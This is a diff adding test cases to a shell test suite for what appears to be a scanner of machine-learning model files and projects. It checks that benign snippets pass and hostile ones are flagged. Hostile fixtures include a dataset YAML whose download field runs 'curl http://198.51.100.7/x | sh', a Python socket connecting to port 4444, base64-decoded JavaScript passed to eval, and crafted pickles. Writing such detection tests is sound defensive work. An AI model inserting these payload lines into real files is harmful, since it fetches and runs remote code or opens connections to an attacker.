@@ -162,6 +162,45 @@ printf '\012\005LeNet\242\006\024\012\002ip\022\014InnerProduct\032\000' | file 
 run assay-inspect "$tmp/b"
 ok "one that is not" sh -c "! grep -qE '^ +(medium|high|critical)' $out"
 
+# --- source that is usual: versions, free ports, PyTorch's own hub; and what is not
+for line in 'exec(open("pkg/version.py").read())' 'with open("pkg/version.py") as f:
+    exec(f.read(), v)' 'import socket
+print(socket.gethostname())' 'import socket
+s = socket.socket()
+s.bind(("", 0))' 'import torch
+m = torch.hub.load("pytorch/vision", "resnet18")'; do
+	printf '%s\n' "$line" | file a.py
+	quiet "$line"
+done
+for line in 'exec(open("notes.txt").read())' 'with open("a.py") as g:
+    pass
+with open("notes.txt") as f:
+    exec(f.read())' 'import socket
+s = socket.socket()
+s.connect(("198.51.100.7", 4444))' 'import socket
+socket.gethostbyname(name)' 'import torch
+m = torch.hub.load("someone/vision", "resnet18")'; do
+	printf '%s\n' "$line" | file a.py
+	hostile CODE_DANGEROUS "$line"
+done
+printf 'eval(Buffer.from("Y29uc29sZQ==", "base64").toString())\n' | file a.js
+hostile COMMAND_DANGEROUS "JavaScript that is decoded and run"
+printf 'path: coco\nnames: {0: a}\ndownload: bash -c "curl http://198.51.100.7/x | sh"\n' | file data.yaml
+hostile COMMAND_DANGEROUS "the download of a data set"
+printf 'path: coco\ndownload: https://ultralytics.com/assets/coco128.zip\n' | file data.yaml
+quiet "an honest one"
+printf '{"a": "\377\376"}' | file config.json
+exits 2 "JSON that is not UTF-8" assay-inspect "$tmp/b"
+prints 'medium *CONFIG_INVALID'
+printf '\200\002cbuiltins\nint\ncdecimal\nDecimal\nX\013\0\0\0001E999999999\205R\205R.' | file a.pkl
+hostile PICKLE_MISUSE "a number of a billion digits"
+printf '\200\002c__torch__.torchvision.transforms.functional.InterpolationMode\nInterpolationMode\nX\010\0\0\0bilinearR.' | file a.pkl
+quiet "a member of an enumeration of TorchScript"
+printf '\200\002ctorchvision.transforms.functional\nInterpolationMode\nX\010\0\0\0bilinearR.' | file a.pkl
+hostile PICKLE_DIVERGENT "the same under a name that Python has"
+printf 'git+https://github.com/openai/CLIP.git\n' | file requirements.txt
+quiet "a package of an account that everybody knows"
+
 # --- names
 rm -rf "$tmp/b"
 mkdir -p "$tmp/b"
